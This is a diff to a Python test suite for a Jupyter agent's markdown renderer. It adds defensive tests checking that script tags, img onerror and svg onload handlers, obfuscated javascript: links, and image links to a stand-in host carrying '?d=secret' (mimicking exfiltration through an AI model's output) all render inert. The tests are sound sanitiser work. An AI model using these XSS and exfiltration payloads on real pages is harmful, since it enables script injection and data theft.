@@ -20,7 +20,16 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from jupyter_agent.ui.markdown import excerpt, literal, plain_text, reply_markdown, summary_html
+from jupyter_agent.ui import markdown
+from jupyter_agent.ui.markdown import (
+    excerpt,
+    inert_markdown,
+    literal,
+    plain_text,
+    reply_markdown,
+    safe_url,
+    summary_html,
+)
 
 _MD = MarkdownIt("commonmark").enable("table")
 #: removeMath's tokenizer (JupyterLab 4, packages/rendermime/src/latex.ts)
@@ -79,14 +88,22 @@ def test_dollars_show_as_typed_and_markdown_still_renders() -> None:
     assert "<" not in source.replace("<", "", 0) or "<" not in reply  # no HTML added
 
 
-def test_tex_triggers_show_as_commonmark_shows_them() -> None:
+def as_typed(reply: str) -> str:
+    """``reply`` with each backslash before ``(``, ``)``, ``[``, ``]`` shown: the page keeps
+    maths delimiters as typed, where CommonMark would drop the backslash."""
+    return re.sub(r"(?<!\\)((?:\\\\)*)\\([()\[\]])", r"\1\\\\\\\2", reply)
+
+
+def test_tex_triggers_show_as_typed() -> None:
     for reply in ["the formula \\(x^2\\) and \\[y\\]", "literal \\\\(x\\\\) here",
                   "\\begin{align} a \\end{align}", "see \\ref{eq1}", "C:\\Users\\me",
                   "escaped \\$5 and \\\\$6", "entity &#36;5 and &dollar;6 and &#92;(",
                   "[a link](http://example.com/$1) costs $2", "@@0@@ and $ alone"]:
         source = reply_markdown(reply)
         assert math_openers(source) == [], reply
-        assert mathjax_shows(rendered_text(source)) == rendered_text(reply), reply
+        assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply)), reply
+    assert mathjax_shows(rendered_text(reply_markdown("so \\(x\\) and \\[y\\]"))) \
+        == "so \\(x\\) and \\[y\\]\n"
 
 
 def test_streaming_halves_are_safe_too() -> None:
@@ -105,7 +122,7 @@ _ALPHABET = st.sampled_from([*"$\\()[]{}`*_|#-+1.a &;x\n", "begin{", "ref{", "``
 def test_no_text_ever_becomes_maths(reply: str) -> None:
     source = reply_markdown(reply)
     assert math_openers(source) == []
-    assert mathjax_shows(rendered_text(source)) == rendered_text(reply)
+    assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply))
 
 
 @settings(max_examples=300, deadline=None)
@@ -135,3 +152,102 @@ def test_summary_html_renders_markdown_and_escapes_html() -> None:
     rendered = summary_html("Goal: **x**\nDone: <b>y</b>\n\n```\ncode\n```")
     assert "<strong>x</strong><br />" in rendered and "&lt;b&gt;y&lt;/b&gt;" in rendered
     assert "<pre><code>code\n</code></pre>" in rendered
+
+
+# --------------------------------------------------------------------------- hostile text
+#: A renderer that runs raw HTML and accepts every link, as a trusted JupyterLab output does.
+_TRUSTING = MarkdownIt("commonmark", {"html": True}).enable("table")
+_TRUSTING.validateLink = lambda url: True  # type: ignore[method-assign]
+
+HOSTILE = [
+    "<script>window.pwned = 1</script>",
+    "hi <img src=x onerror=\"window.pwned=1\"> there",
+    "<style>body { display: none }</style>",
+    "<div>\n<iframe src=\"https://evil.example/\"></iframe>\n</div>",
+    "<!-- a comment --> and <a href=\"javascript:alert(1)\">x</a>",
+    "```\n<b>code</b>\n```\n<svg onload=alert(1)>",
+    "| a | b |\n|---|---|\n| `x|<img src=x onerror=alert(1)>` | y |",
+]
+
+
+def _rendered(source: str) -> tuple[str, list[str]]:
+    """The HTML a trusting renderer makes of ``source``, and the kinds of token it saw."""
+    kinds = []
+    for token in _TRUSTING.parse(source):
+        kinds.append(token.type)
+        kinds += [child.type for child in token.children or []]
+    return _TRUSTING.render(source), kinds
+
+
+def test_raw_html_from_the_model_shows_as_typed() -> None:
+    for reply in HOSTILE:
+        for source in (reply_markdown(reply), inert_markdown(reply)):
+            page, kinds = _rendered(source)
+            assert not {"html_block", "html_inline", "image"} & set(kinds), (reply, source)
+            assert "<script" not in page and "<img" not in page and "<style" not in page
+            assert "<iframe" not in page and "<svg" not in page and "<a href=\"java" not in page
+    shown = rendered_text(reply_markdown("hi <img src=x onerror=\"window.pwned=1\"> there"))
+    assert shown == "hi <img src=x onerror=\"window.pwned=1\"> there\n"  # as typed
+    code = _TRUSTING.render(reply_markdown("use `<b>` and\n\n```html\n<b>x</b>\n```"))
+    assert "<code>&lt;b&gt;</code>" in code and "&lt;b&gt;x&lt;/b&gt;" in code  # code as is
+
+
+def test_images_become_links_that_load_nothing() -> None:
+    page, kinds = _rendered(reply_markdown("see ![chart](https://evil.example/?d=secret) "
+                                           "and ![](https://evil.example/a.png)"))
+    assert "image" not in kinds and "<img" not in page
+    assert '<a href="https://evil.example/?d=secret">image: chart</a>' in page
+    assert '<a href="https://evil.example/a.png">image: </a>' in page
+    page, kinds = _rendered(reply_markdown("![x][r]\n\n[r]: https://evil.example/r.png"))
+    assert "image" not in kinds and '<a href="https://evil.example/r.png">image: x</a>' in page
+
+
+def test_links_keep_only_safe_schemes() -> None:
+    page, _ = _rendered(reply_markdown(
+        "[a](https://example.com) [b](mailto:me@example.com) [c](notes/x.md) <https://e.com>"))
+    for href in ("https://example.com", "mailto:me@example.com", "notes/x.md", "https://e.com"):
+        assert f'href="{href}"' in page
+    for reply in ["[x](javascript:alert(1))", "[x](JavaScript:alert(1))", "[x]( <javascript:a>)",
+                  "[x](&#106;avascript:alert(1))", "[x](java&#9;script:alert(1))",
+                  "[x](javascript\\:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
+                  "<javascript:alert(1)>", "[x][r]\n\n[r]: javascript:alert(1)",
+                  "[x][r]\n\n[r]:\n  vbscript:msgbox", "[x](file:///etc/passwd 'x')",
+                  "[x](javascript:alert(1)\n'title')"]:
+        page, kinds = _rendered(reply_markdown(reply))
+        assert "link_open" not in kinds, (reply, page)
+    assert not safe_url("&#x6A;avascript:x") and not safe_url(" \tjavascript:x")
+    assert safe_url("https://x") and safe_url("#anchor") and safe_url("a/b:c")
+
+
+_HOSTILE_ALPHABET = st.sampled_from([
+    *"<>![]()`|:\\\n $&", "<img src=x onerror=f()>", "<script>", "javascript:", "https://e/",
+    "&#106;", "    ", "- ", "> ", "```", "\n\n", "a", "[r]: ", "*", "<a@b.c>", "<b>"])
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(_HOSTILE_ALPHABET, max_size=40).map("".join))
+@example("[a](`b) <img src=x onerror=f()> `")
+@example("| a |\n|---|\n| `x|<b>` |")
+@example("`\n<!--`")  # an HTML block may start inside what looks like a code span
+def test_no_text_ever_renders_html_images_or_unsafe_links(reply: str) -> None:
+    for maths in (True, False):  # the scanner itself, not only the literal fallback
+        assert markdown._inert(markdown._markdown(reply, maths)), reply
+
+
+def test_exports_keep_maths_as_written() -> None:
+    assert inert_markdown("costs $5 and \\(x\\) <b>") == "costs $5 and \\(x\\) \\<b>"
+
+
+def test_summary_html_shows_no_html_image_or_unsafe_link() -> None:
+    rendered = summary_html("<img src=x onerror=alert(1)> <script>x</script>\n"
+                            "![chart](https://evil.example/?d=1) [j](javascript:alert(1)) "
+                            "[ok](https://example.com)")
+    assert "<img" not in rendered and "<script" not in rendered
+    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered
+    assert ('<a href="https://evil.example/?d=1" target="_blank" rel="noopener noreferrer">'
+            'image: chart</a>') in rendered
+    assert 'href="javascript' not in rendered and "[j](javascript:alert(1))" in rendered
+    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer">ok</a>' \
+        in rendered
+    assert summary_html("so \\(x\\) and \\[y\\], `\\(c\\)`") == \
+        "<p>so \\(x\\) and \\[y\\], <code>\\(c\\)</code></p>\n"  # delimiters as typed
